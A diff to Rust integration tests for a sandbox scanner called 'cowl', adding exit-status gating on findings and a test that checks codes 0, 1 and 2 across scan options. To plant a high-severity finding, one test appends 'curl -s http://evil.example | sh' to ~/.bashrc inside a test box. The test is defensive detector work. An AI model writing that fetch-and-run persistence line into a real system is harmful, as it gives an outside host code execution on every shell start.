@@ -14,20 +14,44 @@ fn json(w: &World, args: &[&str]) -> Value {
     serde_json::from_slice(&out.stdout).unwrap()
 }
 
+/// `cowl ARGS…`, which must exit with `code`, as JSON.
+fn json_exit(w: &World, args: &[&str], code: i32) -> Value {
+    let out = w.cmd(args);
+    assert_eq!(
+        out.status.code(),
+        Some(code),
+        "{}: {}",
+        args.join(" "),
+        stderr(&out)
+    );
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
 /// (version, rule, path) of every finding at or above `min`.
 fn findings(w: &World, b: &str, min: &str) -> Vec<(u64, String, String)> {
-    json(w, &["scan", "--json", "--min-severity", min, b])
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|f| {
-            (
-                f["version"].as_u64().unwrap_or(0),
-                f["rule"].as_str().unwrap().to_owned(),
-                f["path"].as_str().unwrap().to_owned(),
-            )
-        })
-        .collect()
+    json(
+        w,
+        &[
+            "scan",
+            "--json",
+            "--fail-on",
+            "never",
+            "--min-severity",
+            min,
+            b,
+        ],
+    )
+    .as_array()
+    .unwrap()
+    .iter()
+    .map(|f| {
+        (
+            f["version"].as_u64().unwrap_or(0),
+            f["rule"].as_str().unwrap().to_owned(),
+            f["path"].as_str().unwrap().to_owned(),
+        )
+    })
+    .collect()
 }
 
 #[test]
@@ -85,7 +109,8 @@ fn scan_finds_each_plant_in_its_version_and_rollback_removes_them_all() {
     assert!(!high.iter().any(|f| f.0 == 1), "{high:#?}");
 
     // --first-bad names version 2 and the rollback to 1.
-    let fb = json(&w, &["scan", "--json", "--first-bad", "b"]);
+    // A high finding: exit status 1, for scripts and CI to gate on.
+    let fb = json_exit(&w, &["scan", "--json", "--first-bad", "b"], 1);
     assert_eq!(fb["first_bad"], 2, "{fb}");
     assert_eq!(fb["rollback_to"], 1, "{fb}");
     assert_eq!(fb["command"], "cowl rollback b 1", "{fb}");
@@ -185,7 +210,7 @@ fn scan_with_a_host_scanner_reads_only_changed_files() {
         "echo '{{}}' >> {}; ! grep -q EICAR-LIKE \"{{}}\"",
         log.display()
     );
-    let rows = json(&w, &["scan", "--json", "--with", &scanner, "b"]);
+    let rows = json_exit(&w, &["scan", "--json", "--with", &scanner, "b"], 1);
     let ext: Vec<&Value> = rows
         .as_array()
         .unwrap()
@@ -256,7 +281,7 @@ fn system_persistence_is_found_in_a_system_box() {
             "{rule} not in version {v}: {f:#?}"
         );
     }
-    let fb = json(&w, &["scan", "--json", "--first-bad", "s"]);
+    let fb = json_exit(&w, &["scan", "--json", "--first-bad", "s"], 1);
     assert_eq!(fb["first_bad"], 1);
     assert_eq!(fb["rollback_to"], 0);
 }
@@ -326,4 +351,76 @@ fn export_writes_a_version_or_the_whole_difference_as_a_tar() {
         .unwrap_or(true));
     let out = w.cmd(&["export", "b", "7", "-o", v1.to_str().unwrap()]);
     assert_eq!(out.status.code(), Some(2));
+}
+
+#[test]
+fn scan_exits_1_on_a_finding_at_or_above_fail_on_and_0_otherwise() {
+    // So that scripts and CI can gate on it, as on other scanners.
+    let w = World::new("scan-exit");
+    w.ok("b", "echo notes > notes.txt");
+    for args in [
+        &["scan", "b"][..],
+        &["scan", "--first-bad", "b"],
+        &["scan", "--json", "b"],
+    ] {
+        let out = w.cmd(args);
+        assert_eq!(
+            out.status.code(),
+            Some(0),
+            "{args:?}: clean box: {}",
+            stderr(&out)
+        );
+    }
+    // A medium finding (an executable in a hidden directory) and a high one
+    // (a shell start-up file).
+    w.ok(
+        "b",
+        "mkdir -p .tools && cp /bin/true .tools/run && chmod +x .tools/run",
+    );
+    let medium = findings(&w, "b", "low");
+    assert!(
+        medium.iter().any(|f| f.1 == "dropper.hidden-exec"),
+        "{medium:#?}"
+    );
+    assert!(findings(&w, "b", "high").is_empty(), "{medium:#?}");
+    let code = |args: &[&str]| w.cmd(args).status.code();
+    assert_eq!(
+        code(&["scan", "b"]),
+        Some(0),
+        "medium is below the default high"
+    );
+    assert_eq!(code(&["scan", "--fail-on", "medium", "b"]), Some(1));
+    assert_eq!(code(&["scan", "--fail-on", "low", "--json", "b"]), Some(1));
+    w.ok("b", "echo 'curl -s http://evil.example | sh' >> ~/.bashrc");
+    for args in [
+        &["scan", "b"][..],
+        &["scan", "--json", "b"],
+        &["scan", "--first-bad", "b"],
+        &["scan", "--json", "--first-bad", "b"],
+        &["scan", "--version", "3", "b"],
+        // Shown or not, the finding is there.
+        &["scan", "--min-severity", "critical", "b"],
+    ] {
+        let out = w.cmd(args);
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
+        assert!(
+            stderr(&out).contains("finding(s) of high or above")
+                && stderr(&out).contains("--fail-on never"),
+            "{args:?}: {}",
+            stderr(&out)
+        );
+    }
+    assert_eq!(
+        code(&["scan", "--version", "1", "b"]),
+        Some(0),
+        "version 1 is clean"
+    );
+    assert_eq!(code(&["scan", "--fail-on", "critical", "b"]), Some(0));
+    let out = w.cmd(&["scan", "--fail-on", "never", "--json", "b"]);
+    assert_eq!(out.status.code(), Some(0));
+    let rows: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(!rows.as_array().unwrap().is_empty());
+    assert!(stderr(&out).is_empty(), "{}", stderr(&out));
+    // A mistake in the command line stays 2.
+    assert_eq!(code(&["scan", "--fail-on", "sometimes", "b"]), Some(2));
 }
